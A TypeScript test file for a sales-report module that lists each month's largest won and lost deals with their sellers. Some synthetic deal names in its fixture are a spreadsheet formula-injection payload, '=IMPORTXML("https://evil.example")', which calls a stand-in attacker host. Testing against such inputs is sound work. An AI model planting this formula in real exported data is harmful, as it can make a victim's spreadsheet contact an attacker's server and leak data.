import { parseDay } from '../../../src/calendar/day';
import { enrich } from '../../../src/columns/enrich';
import { accountOf, FactBase } from '../../../src/facts/fact-base';
import { CONTESTED, contestLines, LARGEST_LISTED } from '../../../src/reports/contests/contest-lines';

const DAY = 86_400_000;
const JUNE = Date.UTC(2026, 5, 1, 9);

/** Two months of closed deals of two people and of one who is not on the list, some without an amount, one deleted. */
const deals = Array.from({ length: 90 }, (_, i) => ({
	source: 'csv',
	deal_id: `D${i}`,
	name: i % 7 === 0 ? '=IMPORTXML("https://evil.example")' : `Deal ${i}`,
	manager_id: ['M1', 'M2', 'gone'][i % 3],
	outcome: i % 2 === 0 ? 'WON' : i % 5 === 0 ? 'OPEN' : 'LOST',
	amount: i % 11 === 0 ? null : ((i * 37) % 83) * 100,
	created_at: JUNE,
	closed_at: i % 2 === 1 && i % 5 === 0 ? null : JUNE + i * DAY * 0.6,
	is_deleted: i === 82,
}));
const facts = enrich(
	new FactBase(
		{
			managers: [
				{ manager_id: 'M1', name: 'Anna' },
				{ manager_id: 'M2', name: 'Boris' },
			],
			deals,
		} as never,
		accountOf({ asOf: parseDay('2026-07-20')! }),
	),
);

test.each([
	['won', 'WON', '2026-06'],
	['lost', 'LOST', '2026-06'],
	['won', 'WON', '2026-07'],
	['lost', 'LOST', '2026-07'],
])(
	'the department’s largest deals that were %s (%s) in %s are those of a plain sort, with their sellers, and the rest is counted',
	(key, outcome, period) => {
		const asOf = Date.UTC(2026, 6, 20, 23, 59);
		const plain = deals
			.filter((deal) => deal.outcome === outcome && !deal.is_deleted && deal.closed_at! <= asOf)
			.filter(({ closed_at }) => new Date(closed_at!).toISOString().startsWith(period))
			.sort((a, b) => (b.amount ?? 0) - (a.amount ?? 0));
		const lines = contestLines(facts, [], new Set(), 'en');
		const head = lines.findIndex((cells) => cells[CONTESTED.key - 1] === `ALL|${key}|${period}`);
		const count = Math.min(LARGEST_LISTED, plain.length);
		expect(count).toBeGreaterThan(3);
		expect([lines[head]![CONTESTED.money - 1], lines[head]![CONTESTED.more - 1]]).toEqual([count, plain.length - count]);
		expect(
			lines
				.slice(head + 1, head + 1 + count)
				.map((cells) => [cells[CONTESTED.text - 1], cells[CONTESTED.money - 1], cells[CONTESTED.more - 1]]),
		).toEqual(
			plain
				.slice(0, count)
				.map(({ name, amount, manager_id: by }) => [
					name,
					amount ? amount / 100 : null,
					by === 'M1' ? 'Anna' : by === 'M2' ? 'Boris' : 'gone',
				]),
		);
	},
);

test('a month whose deals have no amounts does not say that none were lost', () => {
	const bare = deals.map((deal) => ({ ...deal, amount: null }));
	const lines = contestLines(
		enrich(new FactBase({ deals: bare } as never, accountOf({ asOf: parseDay('2026-07-20')! }))),
		[],
		new Set(),
		'en',
	);
	const head = lines.find((cells) => cells[CONTESTED.key - 1] === 'ALL|lost|2026-06')!;
	const lost = bare.filter(({ outcome, closed_at }) => outcome === 'LOST' && closed_at !== null && closed_at < Date.UTC(2026, 6, 1));
	expect(Number(head[CONTESTED.money - 1]) + Number(head[CONTESTED.more - 1])).toBe(lost.length);
	expect(lost.length).toBeGreaterThan(3);
});
